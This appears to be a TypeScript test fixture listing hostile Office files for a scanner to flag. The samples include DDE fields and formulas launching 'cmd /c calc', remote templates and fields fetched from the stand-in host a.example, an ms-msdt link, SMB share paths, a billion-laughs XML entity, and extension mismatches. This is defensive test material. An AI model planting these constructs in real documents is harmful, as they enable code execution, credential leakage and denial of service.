// Hostile office files of today: templates, pictures and workbooks that are fetched on opening, fields and cells that run
// programs, entities, and files that are not what they say.
import { rowsOf, type HostileFile, type Row } from './hostile-file.ts';
import { makeZip } from './made-archives.ts';
import { makeOoxml, OFFICE, relation, relationsOf, type MadeOffice } from './made-office.ts';

function docx(made: MadeOffice): () => Buffer {
  return () => makeOoxml('docx', made);
}

function xlsx(made: MadeOffice): () => Buffer {
  return () => makeOoxml('xlsx', made);
}

function fieldOf(text: string): string {
  return `<w:p><w:r><w:instrText>${text}</w:instrText></w:r></w:p>`;
}

const LINKS: readonly Row[] = [
  [
    'a template from elsewhere',
    'a.docx',
    'outside-link',
    docx({
      members: [
        {
          name: 'word/_rels/settings.xml.rels',
          data: relationsOf(relation('attachedTemplate', 'http://a.example/a.dotm')),
        },
      ],
    }),
  ],
  [
    'a template from a share',
    'a.docx',
    'outside-link',
    docx({ relations: relation('attachedTemplate', '\\\\a.example\\s\\a.dotm') }),
  ],
  [
    'a template without its mode',
    'a.docx',
    'outside-link',
    docx({ relations: `<Relationship Id="r" Type="${OFFICE}/attachedTemplate" Target="http://a.example/a.dotm"/>` }),
  ],
  [
    'a picture from elsewhere',
    'a.docx',
    'outside-link',
    docx({ relations: relation('image', 'http://a.example/a.png') }),
  ],
  [
    'a picture from a share',
    'a.docx',
    'outside-link',
    docx({ relations: relation('image', 'file://a.example/s/a.png') }),
  ],
  [
    'a frame from elsewhere',
    'a.docx',
    'outside-link',
    docx({ relations: relation('frame', 'http://a.example/a.htm') }),
  ],
  [
    'a part of text from elsewhere',
    'a.docx',
    'outside-link',
    docx({ relations: relation('subDocument', 'http://a.example/a.docx') }),
  ],
  ['a link to a script', 'a.docx', 'outside-link', docx({ relations: relation('hyperlink', 'javascript:alert(1)') })],
  [
    'a link to a file',
    'a.docx',
    'outside-link',
    docx({ relations: relation('hyperlink', 'file:///c:/windows/system32/calc.exe') }),
  ],
  ['a link to a share', 'a.docx', 'outside-link', docx({ relations: relation('hyperlink', '\\\\a.example\\s') })],
  [
    'a link to a program of the desktop',
    'a.docx',
    'outside-link',
    docx({ relations: relation('hyperlink', 'ms-msdt:/id PCWDiagnostic') }),
  ],
  [
    'a link to a scheme of search',
    'a.docx',
    'outside-link',
    docx({ relations: relation('hyperlink', 'search-ms:query=x&amp;crumb=location:\\\\a') }),
  ],
  [
    'a workbook from a share',
    'a.xlsx',
    'outside-link',
    xlsx({
      members: [
        {
          name: 'xl/externalLinks/_rels/externalLink1.xml.rels',
          data: relationsOf(relation('externalLinkPath', '\\\\a.example\\s\\a.xlsx')),
        },
      ],
    }),
  ],
  [
    'a workbook from elsewhere',
    'a.xlsx',
    'outside-link',
    xlsx({
      members: [
        {
          name: 'xl/externalLinks/_rels/externalLink1.xml.rels',
          data: relationsOf(relation('externalLinkPath', 'http://a.example/a.xlsx')),
        },
      ],
    }),
  ],
  [
    'a link that asks a program',
    'a.xlsx',
    'data-exchange',
    xlsx({
      members: [
        {
          name: 'xl/externalLinks/externalLink1.xml',
          data: '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
        },
      ],
    }),
  ],
  [
    'a link to an object',
    'a.xlsx',
    'embedded-object',
    xlsx({
      members: [
        { name: 'xl/externalLinks/externalLink1.xml', data: '<externalLink><oleLink progId="x"/></externalLink>' },
      ],
    }),
  ],
  [
    'a formula that asks a program',
    'a.xlsx',
    'data-exchange',
    xlsx({
      members: [{ name: 'xl/worksheets/sheet1.xml', data: "<worksheet><c><f>cmd|'/c calc'!A1</f></c></worksheet>" }],
    }),
  ],
  [
    'a formula that fetches',
    'a.xlsx',
    'outside-link',
    xlsx({
      members: [
        {
          name: 'xl/worksheets/sheet1.xml',
          data: '<worksheet><c><f>_xlfn.WEBSERVICE("http://a.example")</f></c></worksheet>',
        },
      ],
    }),
  ],
  [
    'a field DDEAUTO',
    'a.docx',
    'data-exchange',
    docx({ body: fieldOf('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"') }),
  ],
  ['a field DDE', 'a.docx', 'data-exchange', docx({ body: fieldOf('DDE cmd "/k calc"') })],
  ['a field in pieces', 'a.docx', 'data-exchange', docx({ body: fieldOf('DD') + fieldOf('EAU') + fieldOf('TO cmd') })],
  ['a field in small letters', 'a.docx', 'data-exchange', docx({ body: fieldOf(' ddeAuto cmd') })],
  [
    'a simple field',
    'a.docx',
    'data-exchange',
    docx({
      body: '<w:fldSimple xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" w:instr="DDEAUTO cmd"/>',
    }),
  ],
  ['a field spelt in numbers', 'a.docx', 'data-exchange', docx({ body: fieldOf('QUOTE 68 68 69 65 85 84 79 ') })],
  [
    'a field in the head of pages',
    'a.docx',
    'data-exchange',
    docx({ members: [{ name: 'word/header1.xml', data: `<w:hdr xmlns:w="x">${fieldOf('DDEAUTO cmd')}</w:hdr>` }] }),
  ],
  [
    'a field that fetches a picture',
    'a.docx',
    'outside-link',
    docx({ body: fieldOf('INCLUDEPICTURE "http://a.example/x" \\d') }),
  ],
  [
    'a field that fetches a text',
    'a.docx',
    'outside-link',
    docx({ body: fieldOf('INCLUDETEXT "\\\\\\\\a.example\\\\x"') }),
  ],
  ['a button of macros', 'a.docx', 'macros', docx({ body: fieldOf('MACROBUTTON x click') })],
  [
    'words of its own in its text',
    'a.docx',
    'entities',
    docx({ members: [{ name: 'word/styles.xml', data: '<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>' }] }),
  ],
  [
    'a billion laughs in its text',
    'a.docx',
    'entities',
    docx({
      members: [
        { name: 'word/styles.xml', data: '<!DOCTYPE a [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]><a>&b;</a>' },
      ],
    }),
  ],
  [
    'words from elsewhere',
    'a.xlsx',
    'entities',
    xlsx({ members: [{ name: 'xl/sharedStrings.xml', data: '<!DOCTYPE a SYSTEM "http://a.example/a.dtd"><a/>' }] }),
  ],
  ['damaged text', 'a.docx', 'broken', docx({ members: [{ name: 'word/styles.xml', data: '<a><b></a>' }] })],
  [
    'two main parts',
    'a.docx',
    'two-in-one',
    docx({
      types:
        '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>',
    }),
  ],
  ['no main part', 'a.docx', 'unknown-type', docx({ mainType: 'application/xml' })],
  [
    'a template',
    'a.docx',
    'unknown-type',
    docx({ mainType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml' }),
  ],
  [
    'a binary workbook',
    'a.xlsx',
    ['unknown-type', 'macros'],
    xlsx({ mainType: 'application/vnd.ms-excel.sheet.binary.macroEnabled.main' }),
  ],
  [
    'no list of types',
    'a.docx',
    ['broken', 'unknown-type'],
    () => makeZip([{ name: 'word/document.xml', data: '<a/>' }]),
  ],
  ['called .txt', 'a.txt', 'name-contradicts-content', docx({})],
  ['called .pdf', 'a.pdf', 'name-contradicts-content', docx({})],
  ['called .jpg', 'a.jpg', 'name-contradicts-content', docx({})],
];

export const HOSTILE_LINKS: readonly HostileFile[] = rowsOf('office file with', LINKS);
